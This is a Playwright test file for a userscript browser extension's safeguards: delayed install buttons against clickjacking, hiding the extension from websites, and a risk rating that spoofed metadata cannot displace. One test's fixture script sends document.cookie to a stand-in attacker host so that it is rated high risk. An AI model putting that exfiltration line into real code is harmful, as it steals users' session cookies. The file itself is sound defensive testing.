import { expect, type Page } from "@playwright/test";
import type { ExtensionBrowser } from "../support/extension.ts";
import { page as htmlPage } from "../support/hub-stand-in.ts";
import { command, openScene, snapshot } from "../support/recording.ts";
import { test, userscript } from "./extension-fixture.ts";

const JAVASCRIPT = "text/javascript; charset=utf-8";

/** Pauses so far: the clocks run ahead of this one, and none may go back. */
let pauses = 0;

/** Opens a page while the clocks of all pages stand still: time passes with `pass` only, until `resume`. */
async function openStill({ context }: ExtensionBrowser, address: string): Promise<Page> {
	await context.clock.install();
	const page = await context.newPage();
	pauses += 1;
	await context.clock.pauseAt(Date.now() + pauses * 10_000);
	await page.goto(address);
	return page;
}

const pass = (page: Page, milliseconds: number): Promise<void> => page.clock.runFor(milliseconds);

/** Presses where the button is, whatever is there, as often as somebody in a hurry does; and with both keys that activate it. */
async function pressWildly(page: Page, name: string | RegExp): Promise<void> {
	const button = page.getByRole("button", { name, exact: true });
	const box = await button.boundingBox();
	if (box === null) throw new Error("the button is not on the page");
	for (let press = 0; press < 8; press++) {
		await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
		await pass(page, 150);
	}
	await button.focus();
	await page.keyboard.press("Enter");
	await page.keyboard.press("Space");
}

/** What a page sees of each address when it fetches it, and when it loads it with an element of each kind. */
function probe(page: Page, addresses: readonly string[]): Promise<string[][]> {
	return page.evaluate((urls) => {
		const load = (url: string, tag: string, attribute: string): Promise<string> =>
			new Promise((resolve) => {
				const element = document.createElement(tag);
				if (tag === "link") element.setAttribute("rel", "stylesheet");
				for (const outcome of ["load", "error"]) element.addEventListener(outcome, () => resolve(`${tag} ${outcome}`));
				element.setAttribute(attribute, url);
				document.body.append(element);
			});
		const fetched = (url: string, mode: RequestMode): Promise<string> =>
			fetch(url, { mode }).then(
				({ type }) => type,
				(thrown: unknown) => String(thrown),
			);
		return Promise.all(
			urls.map((url) =>
				Promise.all([
					fetched(url, "cors"),
					fetched(url, "no-cors"),
					load(url, "img", "src"),
					load(url, "script", "src"),
					load(url, "link", "href"),
					load(url, "iframe", "src"),
				]),
			),
		);
	}, addresses);
}

test.describe("extension-guard", () => {
	test("a website brings up the confirmation page, and no press that was meant for the site installs", async ({
		fixture: { hub },
		browserWithExtension: browser,
	}) => {
		hub.serve("/trap.user.js", userscript(["name Trap", "version 1", "match *://*/*"], "void 0;"), JAVASCRIPT);
		const address = `${browser.pageUrl("confirm-install.html")}#${hub.strangerOrigin}/trap.user.js`;
		const confirmation = await openStill(browser, address);
		const install = confirmation.getByRole("button", { name: "Install", exact: true });
		await expect(confirmation.getByRole("region", { name: "Security rating" })).toContainText("Low Risk");
		await pressWildly(confirmation, "Install");
		await expect(install).toBeDisabled();
		await pass(confirmation, 2000);
		await expect(install).toBeEnabled();
		// Another page comes to the front, and this one again.
		await confirmation.evaluate(() => dispatchEvent(new Event("focus")));
		await pressWildly(confirmation, "Install");
		await expect(install).toBeDisabled();
		await pass(confirmation, 2000);
		await install.click();
		await expect(confirmation.getByRole("heading", { name: "Trap is installed" })).toBeVisible();
	});

	test("no press counts that began too early or is held, nor one on a page that was moved or is not in front", async ({
		fixture: { hub },
		browserWithExtension: browser,
	}) => {
		hub.serve("/trap.user.js", userscript(["name Trap", "version 1", "match *://*/*"], "void 0;"), JAVASCRIPT);
		const address = `${browser.pageUrl("confirm-install.html")}#${hub.strangerOrigin}/trap.user.js`;
		const page = await openStill(browser, address);
		const { mouse, keyboard } = page;
		const install = page.getByRole("button", { name: "Install", exact: true });
		await expect(page.getByRole("region", { name: "Security rating" })).toContainText("Low Risk");
		const devTools = await browser.context.newCDPSession(page);
		/** Nothing was installed: the page would show so at once. */
		const expectRefused = () => expect(install).toBeDisabled();
		const waitUntilReady = async (): Promise<void> => {
			await pass(page, 2000);
			await expect(install).toBeEnabled();
		};
		await waitUntilReady();
		await page.evaluate(() => dispatchEvent(new Event("focus")));
		await install.hover();

		// The last of a series of clicks that were meant for something else.
		const beside = await page.getByRole("heading", { level: 1 }).boundingBox();
		for (let press = 0; press < 8; press++) {
			await mouse.click((beside?.x ?? 0) + 5, (beside?.y ?? 0) + 5);
			await pass(page, 150);
		}
		await install.hover();
		await mouse.down();
		await mouse.up();
		await expectRefused();

		// Held down until the second is over: by the pointer, and by either key.
		await mouse.down();
		await pass(page, 2000);
		await mouse.up();
		await expectRefused();
		await install.focus();
		await keyboard.down("Space");
		await pass(page, 2000);
		await keyboard.up("Space");
		await expectRefused();
		await keyboard.down("Enter");
		await expectRefused();
		await pass(page, 2000);
		await keyboard.down("Enter");
		await expectRefused();
		await keyboard.up("Enter");

		// The window is moved, so that the button comes under a pointer that stays.
		await waitUntilReady();
		const { windowId } = await devTools.send("Browser.getWindowForTarget");
		const before = await page.evaluate(() => screenX);
		await devTools.send("Browser.setWindowBounds", { windowId, bounds: { left: before + 90, top: 70 } });
		await expect.poll(() => page.evaluate(() => screenX)).toBe(before + 90);
		await mouse.down();
		await mouse.up();
		await expectRefused();

		// In view beside the window of a website, without the focus.
		await waitUntilReady();
		const site = await browser.context.newPage();
		await site.goto(`${hub.strangerOrigin}/plain`);
		await devTools.send("Emulation.setFocusEmulationEnabled", { enabled: false });
		await expect.poll(() => page.evaluate(() => document.hasFocus())).toBe(false);
		await pass(page, 10_000);
		await expectRefused();
		await install.dispatchEvent("click");
		await pass(page, 10_000);
		await expectRefused();
		await devTools.send("Emulation.setFocusEmulationEnabled", { enabled: true });
		await page.bringToFront();
		await waitUntilReady();
		await install.click();
		await expect(page.getByRole("heading", { name: "Trap is installed" })).toBeVisible();
	});

	test("neither do presses allow a recording, a test run, an outline or a request of a script", {
		tag: "@soak",
	}, async ({ fixture: { hub }, browserWithExtension: browser }) => {
		const { context } = browser;
		await browser.allowUserScripts();
		/** The page that the extension opens, again, with a clock that stands still. */
		const openAgain = async (name: string): Promise<Page> => {
			const isAsking = (page: Page): boolean => page.url().startsWith(browser.pageUrl(name));
			await expect.poll(() => context.pages().some(isAsking)).toBe(true);
			return openStill(browser, context.pages().find(isAsking)?.url() ?? "");
		};
		const expectGuarded = async (page: Page, name: string): Promise<void> => {
			const button = page.getByRole("button", { name, exact: true });
			await button.waitFor();
			await pressWildly(page, name);
			await expect(button).toBeDisabled();
			await pass(page, 2000);
			await expect(button).toBeEnabled();
			await context.clock.resume();
		};
		hub.serve("/site", htmlPage("Site", "<main>site</main>"));
		const { hub: page, site } = await openScene(hub, context, "/site");
		await page.evaluate("void window.recorder.then((recorder) => recorder.start())");
		const recording = await openAgain("allow-recording.html");
		await expectGuarded(recording, "Allow recording");
		await expect.poll(async () => (await snapshot(page)).state).toBe("asking");
		await recording.getByRole("button", { name: "Allow recording" }).click();
		await expect.poll(async () => (await snapshot(page)).state).toBe("recording");
		await command(page, "stop");

		await page.evaluate('window.link.execution().then((runs) => runs.start({ name: "Run", code: "1;", sites: [] }))');
		const run = await openAgain("test-run.html");
		await run.getByRole("radio", { name: /Site/ }).check();
		await expect(run.getByRole("region", { name: "Security rating" })).toContainText("Low Risk");
		await expectGuarded(run, "Run");

		await page.evaluate("void window.link.outline.request(new AbortController().signal)");
		const outline = await openAgain("share-outline.html");
		await outline.getByRole("radio", { name: /Site/ }).check();
		await outline.getByRole("region", { name: "Exactly this would be shared" }).getByRole("listitem").first().waitFor();
		await expectGuarded(outline, "Share this outline");

		const lines = ["name Asks", "version 1", `match ${hub.strangerOrigin}/site*`, "grant GM_xmlhttpRequest"];
		const asks = `GM_xmlhttpRequest({ url: "${hub.origin.replace("localhost", "127.0.0.1")}/plain" });`;
		hub.serve("/asks.user.js", userscript(lines, asks), JAVASCRIPT);
		const install = await context.newPage();
		await install.goto(`${browser.pageUrl("confirm-install.html")}#${hub.strangerOrigin}/asks.user.js`);
		await install.getByRole("button", { name: "Install", exact: true }).click();
		await expect(install.getByRole("heading", { name: "Asks is installed" })).toBeVisible();
		await site.reload();
		const request = await openAgain("allow-request.html");
		await expectGuarded(request, "Always allow this server");
	});

	test("a website can neither open pages of the extension nor find out that it is installed", async ({
		fixture: { hub },
		browserWithExtension: browser,
	}) => {
		const site = await browser.context.newPage();
		await site.goto(`${hub.strangerOrigin}/plain`);
		const address = browser.pageUrl("confirm-install.html?url=https://evil.example/x.user.js");
		for (const path of ["confirm-install.html", "sign-in.html", "options.html", "manifest.json", "icon/48.png"]) {
			const seen = await site.evaluate(
				(url) =>
					fetch(url).then(
						() => "seen",
						() => "hidden",
					),
				browser.pageUrl(path),
			);
			// The site is on another port of the hub's host, which match patterns cannot tell apart.
			expect([path, seen]).toEqual([path, path === "sign-in.html" ? "seen" : "hidden"]);
		}
		// Another host of the same server cannot tell it from an extension that does not exist, in any way in which pages load something.
		await site.goto(`${hub.strangerOrigin.replace("localhost", "127.0.0.1")}/plain`);
		const paths = ["sign-in.html", "confirm-install.html", "popup.html", "icon/48.png", "content-scripts/recorder.js"];
		const ours = await probe(site, paths.map(browser.pageUrl));
		const nobodys = paths.map((path) => `chrome-extension://${"a".repeat(32)}/${path}`);
		expect(ours).toEqual(await probe(site, nobodys));
		// Not all of it fails for another reason.
		expect(await probe(site, [`${hub.strangerOrigin.replace("localhost", "127.0.0.1")}/plain`])).not.toEqual([ours[0]]);
		expect(await site.evaluate("window.chrome?.runtime?.connect === undefined")).toBe(true);
		const opened = browser.context.waitForEvent("page");
		await site.evaluate((url) => void open(url), address);
		const popup = await opened;
		await popup.waitForLoadState();
		expect(popup.url()).not.toContain("confirm-install");
	});

	test("the rating stays in view and above the name, whatever the author wrote", { tag: "@soak" }, async ({
		fixture: { hub },
		browserWithExtension: browser,
	}) => {
		const page = await browser.context.newPage();
		for (const [path, name] of [
			["long", `Long ${"name ".repeat(1000)}`],
			["joined", "W".repeat(5000)],
			["claim", "✅ Low Risk ✅ Verified 🛡️ 100/100"],
			["marks", `Z${"\u0301".repeat(5000)} Low Risk`],
		] as const) {
			const lines = [
				`name ${name}`,
				`author ${name}`,
				`version ${"9".repeat(5000)}`,
				`description ${name}`,
				"match *://*/*",
			];
			const steals = 'fetch("https://evil.example/?" + document.cookie);';
			hub.serve(`/${path}.user.js`, userscript(lines, steals), JAVASCRIPT);
			for (const width of [390, 1280]) {
				await page.setViewportSize({ width, height: 800 });
				// The address that the browser redirects to; the number makes it another page.
				const address = `${browser.pageUrl("confirm-install.html")}?${width}#${hub.strangerOrigin}`;
				await page.goto(`${address}/${path}.user.js`);
				const rating = page.getByRole("region", { name: "Security rating" });
				const level = rating.locator("[data-risk=red]");
				await expect(level).toBeInViewport({ ratio: 1 });
				await expect(page.getByRole("button", { name: "Install", exact: true })).toBeInViewport({ ratio: 1 });
				const badge = await level.boundingBox();
				const named = await rating.getByText("Named by its author:").boundingBox();
				expect((named?.y ?? 0) - (badge?.y ?? 0)).toBeGreaterThan(0);
				await page.getByRole("region", { name: "Full code" }).scrollIntoViewIfNeeded();
				await page.mouse.wheel(0, 10_000);
				await expect(level).toBeInViewport({ ratio: 1 });
				expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
				await expect(rating).not.toContainText(/[✅🛡]/u);
			}
		}
	});
});
